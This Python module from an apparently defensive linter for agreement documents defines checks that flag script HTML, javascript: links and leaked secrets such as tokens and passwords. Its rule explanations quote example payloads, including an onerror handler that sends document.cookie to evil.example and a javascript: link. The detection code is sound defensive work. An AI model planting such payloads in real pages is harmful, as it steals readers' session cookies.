"""5xx unsafe content: what the publishing sanitiser removes (HTML, links), and secrets."""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Iterator
from itertools import accumulate
from typing import NamedTuple

from agreekit.checks.context import CheckContext
from agreekit.checks.family import Family
from agreekit.checks.removed_markup import removed_markup
from agreekit.finding import ERROR, Explanation, Finding, Location, Rule
from agreekit.model.agreement import Agreement

FAMILY = Family()


AK501 = Rule(
    "AK501",
    "script-html",
    ERROR,
    summary="HTML the publishing sanitiser would remove (script, handlers, styles, frames).",
    hint="Remove the HTML; write Markdown (the message names the safe alternative).",
    explanation=Explanation(
        what=(
            "Renders each section and data value the way the site does (variables, tables, "
            "Markdown with attr_list and md_in_html) and reports every element or attribute "
            "the publishing sanitiser would remove, at the line it was written (or the line "
            "whose variable brought it): `<script>`, `<style>`, `<iframe>`, `<svg>`, forms, "
            "event handlers such as `onerror=` (also `<svg/onload=...>` and "
            "`{: onclick=... }`), `style=` other than text-align, ids starting with `__`. "
            "Character references are decoded first."
        ),
        why=(
            "The site is published from contributors' text; script in it would run in every "
            "reader's browser with the site's origin. The build removes it, so the published "
            "text would silently differ from the text that was approved: the check says so "
            "before the commit."
        ),
        example=(
            '<img src="logo.png" onerror="fetch(\'https://evil.example/?c=\'+document.cookie)">'
        ),
        fix=(
            "Remove the HTML and write Markdown: an image as ![description](file.png), "
            "emphasis with **bold**, a class with {: .name }; the message names the element "
            "or attribute and the safe alternative."
        ),
        fixed="![Logo](logo.png)",
    ),
)


@FAMILY.check(AK501)
def no_script_html(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
    """AK501"""
    for removed in removed_markup(agreement):
        if removed.code == "AK501":
            yield AK501.at(removed.location, removed.message)


AK502 = Rule(
    "AK502",
    "script-link",
    ERROR,
    summary=(
        "An address the sanitiser would remove: javascript:, data:, file: or another site's image."
    ),
    hint="Link to an https: address or a file in the repository.",
    explanation=Explanation(
        what=(
            "An address the publishing sanitiser would remove from a link or image: any "
            "scheme other than http, https, mailto and tel (`javascript:`, `vbscript:`, "
            "`data:`, `file:`), however it is spelt (`&#106;avascript:`, a tab or control "
            "character inside, a scheme from a variable), and images from another site."
        ),
        why=(
            "Such a link runs script or shows content disguised as part of the agreement "
            "when a reader clicks it; an image from another site tells that site who reads "
            "the agreement."
        ),
        example="[Service portal](javascript:alert(document.cookie))",
        fix=(
            "Link to an https address or a file in the repository; put images beside the section."
        ),
        fixed="[Service portal](https://support.brightwater-it.example)",
    ),
)


@FAMILY.check(AK502)
def no_script_links(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
    """AK502"""
    for removed in removed_markup(agreement):
        if removed.code == "AK502":
            yield AK502.at(removed.location, removed.message)


class SecretPattern(NamedTuple):
    regex: str
    what: str
    lower: bool = False  # matched against the lower-cased text


_ASSIGNED = r"""["']?[ \t]*[:=][ \t]*["']?(?P<value>[^\s"'{}<>]{6,})["']?[ \t]*,?[ \t]*$"""
# Patterns follow the token formats the issuers document. Each starts with a literal, which the
# regex engine finds far faster than one alternation of them all.
SECRETS: tuple[SecretPattern, ...] = (
    SecretPattern(r"-----BEGIN (?:[A-Z]+ )*PRIVATE KEY(?: BLOCK)?-----", "a private key"),
    SecretPattern(r"gh[pousr]_[A-Za-z0-9]{36,}", "a GitHub token"),
    SecretPattern(r"github_pat_[A-Za-z0-9_]{22,}", "a GitHub token"),
    SecretPattern(r"A[KS]IA[0-9A-Z]{16}\b", "an AWS access key id"),
    SecretPattern(r"xox[abposr]-[A-Za-z0-9-]{10,}", "a Slack token"),
    SecretPattern(r"https://hooks\.slack\.com/services/[A-Za-z0-9/]+", "a Slack webhook URL"),
    SecretPattern(r"sk_live_[A-Za-z0-9]{16,}", "a Stripe secret key"),
    SecretPattern(r"AIza[0-9A-Za-z_-]{35}\b", "a Google API key"),
    *(
        SecretPattern(keyword + _ASSIGNED, "a password or key assignment", lower=True)
        for keyword in (
            r"pass(?:word|wd|phrase)",
            r"pwd",
            r"secret",
            r"api[_-]?key",
            r"access[_-]?token",
            r"auth[_-]?token",
        )
    ),
)
_SECRET_PATTERNS = tuple(
    re.compile(secret.regex.encode("ascii"), re.MULTILINE) for secret in SECRETS
)


AK503 = Rule(
    "AK503",
    "secret",
    ERROR,
    summary="A secret-like string (private key, token, password) in an agreement file.",
    hint="Remove it and rotate the secret: git history keeps it.",
    explanation=Explanation(
        what=(
            "A string that looks like a secret in any file under agreement/ (sections, "
            "agreement.yml, records): a private key block, GitHub, AWS, Slack, Stripe or "
            "Google tokens, or a password, secret or API key assigned a value."
        ),
        why=(
            "The agreement repository is read by many people and published; a secret in "
            "it is leaked, and stays in git history after it is deleted."
        ),
        example="Portal admin password: Harbour2027!",
        fix=("Remove the secret, rotate it at its issuer, and keep secrets in a password manager."),
        fixed="Portal admin credentials are in the shared password manager.",
    ),
)


@FAMILY.check(AK503)
def no_secrets(agreement: Agreement, context: CheckContext) -> Iterator[Finding]:
    """AK503"""
    # All files in one text, each pattern run over it once: a scan per pattern, not per file.
    # Bytes, not str: every pattern is ASCII, and lower-casing and searching bytes is faster;
    # keywords are matched in lower case, which is faster than IGNORECASE. No pattern crosses a
    # line, so files joined by blank lines cannot make a match between them.
    files = list(agreement.texts)
    texts = ["\n".join(agreement.texts[file]).encode("utf-8") for file in files]
    everything = b"\n\n".join(texts)
    lower = everything.lower()
    starts = list(accumulate((len(text) + 2 for text in texts[:-1]), initial=0))
    matches = sorted(
        (match.start("value") if "value" in pattern.groupindex else match.start(), index)
        for index, (pattern, secret) in enumerate(zip(_SECRET_PATTERNS, SECRETS, strict=True))
        for match in pattern.finditer(lower if secret.lower else everything)
    )
    reported: set[tuple[int, int]] = set()
    for offset, index in matches:
        number = bisect_right(starts, offset) - 1
        text, where = texts[number], offset - starts[number]
        line = text.count(b"\n", 0, where) + 1
        if (number, line) in reported:
            continue
        reported.add((number, line))
        line_start = text.rfind(b"\n", 0, where) + 1
        column = len(text[line_start:where].decode("utf-8", "replace")) + 1
        message = (
            f"this looks like {SECRETS[index].what}; remove it from the file and rotate it "
            "(git history keeps it: treat it as leaked)"
        )
        yield AK503.at(Location(files[number], line, column), message)
